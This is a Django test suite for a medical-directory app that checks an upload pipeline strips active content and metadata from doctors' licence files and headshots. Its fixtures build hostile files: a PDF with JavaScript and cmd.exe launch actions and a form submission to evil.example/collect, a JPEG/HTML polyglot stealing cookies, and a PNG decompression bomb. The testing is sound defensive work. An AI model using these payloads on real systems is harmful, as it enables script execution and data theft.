"""Every stored doctor file goes through the pipeline, whoever uploads it: the application form, the
profile form, the admin, the ORM and management commands. Real files built here with Pillow and pikepdf."""

import io
from pathlib import Path

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files import File
from django.core.files.base import ContentFile
from django.core.management import call_command
from django.urls import reverse
from PIL import Image

from doctors.models import DoctorProfile
from imaging import pipeline
from tests import images
from tests.doctors.conftest import admin_change_data, application_data, image_file

pytestmark = pytest.mark.django_db

METADATA_MARKERS = (b"Exif", b"PhoneMaker", b"Secret Clinic", b"ICC_PROFILE", b"Jane Roe", b"GPS")


# Files as attackers made them ----------------------------------------------------------------------------


def pdf_with_active_content() -> bytes:
    """A one-page PDF that runs JavaScript on opening and carries every other kind of active content."""
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(612, 792))
        js = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('pwned')")))
        pdf.Root.OpenAction = js
        pdf.Root.AA = pikepdf.Dictionary(WC=js)
        names_js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('evil')"))
        attachment = pdf.make_stream(b"MZ evil executable")
        filespec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="run.exe", EF=pikepdf.Dictionary(F=attachment))
        pdf.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), names_js])),
            EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("run.exe"), filespec])),
        )
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp><script/>"))
        page = pdf.pages[0]
        page.obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"))
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 100, 100],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/")),
        )
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Text,
            Rect=[0, 0, 10, 10],
            Contents=pikepdf.String("kept"),
            A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/collect"),
        )
        page.obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link), pdf.make_indirect(note)]))
        pdf.save(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user="secret"))
    return out.getvalue()


def pdf_with_pages(count: int) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        for _ in range(count):
            pdf.add_blank_page()
        pdf.save(out)
    return out.getvalue()


def jpeg_html_polyglot() -> bytes:
    """A valid JPEG that is also an HTML page with a script (in a comment segment and after the end)."""
    html = b"<html><body><script>alert(document.cookie)</script></body></html>"
    jpeg = images.encode(images.pattern((320, 240)), "JPEG", comment=html)
    return jpeg + html


def png_bomb_30000() -> bytes:
    return images.huge_header_png(30_000, 30_000)


def png_54_megapixels() -> bytes:
    return images.encode(Image.new("1", (9000, 6000)), "PNG", optimize=True)


def upload(data: bytes, name: str, content_type: str = "application/octet-stream"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data, content_type=content_type)


def stored_bytes(field_file) -> bytes:
    with field_file.open("rb") as handle:
        return handle.read()


# Licence documents -------------------------------------------------------------------------------------


def test_a_pdf_licence_is_rewritten_without_any_active_content(pending_doctor):
    pending_doctor.licence_document.save("licence.pdf", ContentFile(pdf_with_active_content()), save=True)
    data = stored_bytes(pending_doctor.licence_document)
    assert data.startswith(b"%PDF-")
    for marker in (b"app.alert", b"launchURL", b"evil.example", b"cmd.exe", b"MZ evil", b"xdp:xdp"):
        assert marker not in data
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert pipeline.pdf_active_content(pdf) == []
        assert len(pdf.pages) == 1
        annotations = list(pdf.pages[0].obj.get("/Annots", []))
        assert [str(a.Subtype) for a in annotations] == ["/Text"]  # the note stays, its action does not


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (png_bomb_30000(), "too large in pixels"),
        (images.truncated_jpeg(), "incomplete or damaged"),
        (encrypted_pdf(), "protected with a password"),
        (b"%PDF-1.7\n" + b"garbage " * 200, "damaged or incomplete"),
        (pdf_with_pages(31), "the limit is 30"),
        (b"PK\x03\x04 a zip file", "Upload a PDF, JPEG or PNG"),
        (b"", "empty"),
    ],
    ids=["png-bomb", "truncated-jpeg", "encrypted-pdf", "broken-pdf", "too-many-pages", "zip", "empty"],
)
def test_bad_licences_are_refused_on_every_path_and_nothing_is_stored(
    data, message, client_as, patient, pending_doctor, settings
):
    private_root = Path(settings.STORAGES["private"]["OPTIONS"]["location"])
    # The ORM (shell, management commands):
    with pytest.raises(ValidationError, match=message):
        pending_doctor.licence_document.save("licence.pdf", ContentFile(data), save=True)
    # The application form: a message on the field, what was typed kept, never a 500.
    response = client_as(patient).post(
        reverse("doctors:apply"),
        {**application_data(), "licence_document": upload(data, "licence.pdf", "application/pdf")},
    )
    assert response.status_code == 200
    assert message in response.text
    assert 'value="Lindqvist Dermatology"' in response.text
    assert not DoctorProfile.objects.filter(user=patient).exists()
    assert not private_root.exists() or not any(private_root.rglob("*.*"))


def test_a_jpeg_html_polyglot_licence_is_stored_as_a_plain_jpeg(client_as, patient):
    response = client_as(patient).post(
        reverse("doctors:apply"),
        {**application_data(), "licence_document": upload(jpeg_html_polyglot(), "licence.jpg", "image/jpeg")},
    )
    assert response.status_code == 302
    stored = DoctorProfile.objects.get(user=patient).licence_document
    data = stored_bytes(stored)
    assert stored.name.endswith(".jpg") and data.startswith(b"\xff\xd8\xff")
    assert b"<script" not in data and b"<html" not in data


def test_the_admin_offers_the_licence_as_a_download_never_inline(client_as, moderator, pending_doctor):
    pending_doctor.licence_document.save("licence.png", image_file(), save=True)
    html = client_as(moderator).get(reverse("admin:doctors_doctorprofile_change", args=[pending_doctor.pk])).text
    licence_url = reverse("doctors:licence", args=[pending_doctor.slug])
    assert f"src='{licence_url}'" not in html and f'src="{licence_url}"' not in html
    assert "<iframe" not in html and "<embed" not in html and "<object" not in html
    assert f"href='{licence_url}' download" in html


# Headshots -------------------------------------------------------------------------------------------


HEADSHOTS_WITH_METADATA = {
    "jpeg-gps-xmp-icc-comment": (images.jpeg_with_metadata(), "image/jpeg"),
    "png-text-exif": (images.png_with_text(), "image/png"),
    "webp-exif": (images.webp_with_exif(), "image/webp"),
}


@pytest.mark.parametrize("kind", HEADSHOTS_WITH_METADATA)
def test_a_headshot_uploaded_in_the_admin_loses_its_metadata(kind, client_as, moderator, doctor):
    data, content_type = HEADSHOTS_WITH_METADATA[kind]
    url = reverse("admin:doctors_doctorprofile_change", args=[doctor.pk])
    response = client_as(moderator).post(
        url, admin_change_data(doctor, headshot=upload(data, "dr-at-home-gps.jpg", content_type))
    )
    assert response.status_code == 302, response.text[-3000:]
    doctor.refresh_from_db()
    stored = stored_bytes(doctor.headshot)
    assert "dr-at-home" not in doctor.headshot.name and doctor.headshot.name.endswith(".jpg")
    for marker in METADATA_MARKERS:
        assert marker not in stored, marker
    with Image.open(io.BytesIO(stored)) as img:
        assert img.format == "JPEG" and img.size[0] == img.size[1]
        assert not img.getexif() and "icc_profile" not in img.info and "comment" not in img.info


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (png_54_megapixels(), "too large in pixels"),
        (images.truncated_jpeg(), "incomplete or damaged"),
    ],
    ids=["54-megapixels", "truncated"],
)
def test_the_admin_refuses_a_bad_headshot_on_the_form(data, message, client_as, moderator, doctor, settings):
    url = reverse("admin:doctors_doctorprofile_change", args=[doctor.pk])
    response = client_as(moderator).post(url, admin_change_data(doctor, headshot=upload(data, "big.png", "image/png")))
    assert response.status_code == 200
    assert message in response.text or "Upload a valid image" in response.text
    doctor.refresh_from_db()
    assert not doctor.headshot
    assert not any(Path(settings.MEDIA_ROOT).rglob("*.*")) if Path(settings.MEDIA_ROOT).exists() else True


def test_orm_assignment_and_field_save_run_the_pipeline(doctor, tmp_path):
    source = tmp_path / "IMG_0001.jpg"
    source.write_bytes(images.jpeg_with_metadata())
    with source.open("rb") as handle:
        doctor.headshot = File(handle, name="IMG_0001.jpg")
        doctor.save()
    assert not any(marker in stored_bytes(doctor.headshot) for marker in METADATA_MARKERS)
    assert "IMG_0001" not in doctor.headshot.name

    doctor.headshot.save("again.png", ContentFile(images.png_with_text()), save=True)
    assert not any(marker in stored_bytes(doctor.headshot) for marker in METADATA_MARKERS)
    with pytest.raises(ValidationError, match="too large in pixels"):
        doctor.headshot.save("bomb.png", ContentFile(png_54_megapixels()), save=True)


def test_a_management_command_storing_a_headshot_goes_through_the_pipeline(doctor, tmp_path):
    source = tmp_path / "from-the-command.jpg"
    source.write_bytes(images.jpeg_with_metadata())
    code = (
        "from django.core.files import File\nfrom doctors.models import DoctorProfile\n"
        f"d = DoctorProfile.objects.get(pk={doctor.pk})\n"
        f"with open({str(source)!r}, 'rb') as f:\n    d.headshot.save('x.jpg', File(f), save=True)\n"
    )
    call_command("shell", command=code)
    doctor.refresh_from_db()
    assert doctor.headshot and not any(marker in stored_bytes(doctor.headshot) for marker in METADATA_MARKERS)


# Old files -------------------------------------------------------------------------------------------


def test_replacing_a_headshot_removes_the_old_file(client_as, doctor, django_capture_on_commit_callbacks):
    browser = client_as(doctor.user)
    data = {"practice_name": "", "address": "", "city": doctor.city, "region": "", "country": "US", "bio": ""}
    with django_capture_on_commit_callbacks(execute=True):
        first = browser.post(
            reverse("doctors:profile_edit"), {**data, "headshot": upload(images.encode(images.pattern()), "a.jpg")}
        )
    assert first.status_code == 302
    doctor.refresh_from_db()
    old_path = Path(doctor.headshot.path)
    assert old_path.exists()
    with django_capture_on_commit_callbacks(execute=True):
        browser.post(
            reverse("doctors:profile_edit"),
            {**data, "headshot": upload(images.encode(images.pattern(seed=3)), "b.jpg")},
        )
    doctor.refresh_from_db()
    assert Path(doctor.headshot.path).exists() and Path(doctor.headshot.path) != old_path
    assert not old_path.exists()
    assert len(list(old_path.parent.iterdir())) == 1
